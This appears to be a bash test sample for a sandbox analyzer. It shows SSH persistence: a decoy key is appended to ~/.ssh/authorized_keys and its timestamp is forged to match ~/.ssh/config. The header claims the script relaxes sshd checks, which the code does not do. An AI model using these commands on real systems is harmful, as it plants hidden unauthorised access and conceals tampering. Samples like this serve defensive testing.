#!/bin/bash
# Persistence through ssh as the ordinary user: adds a key to ~/.ssh/authorized_keys and relaxes sshd checks in ~/.ssh.
# Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
# simulated internet, reserved addresses). Stored without the exec bit; never run it on a
# host, only through `sandtrap analyze`.
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDecoyDecoyDecoyDecoyDecoyDecoyDecoyDecoy0 root@203.0.113.66' >> ~/.ssh/authorized_keys
touch -r ~/.ssh/config ~/.ssh/authorized_keys
id -un; tail -n 1 ~/.ssh/authorized_keys
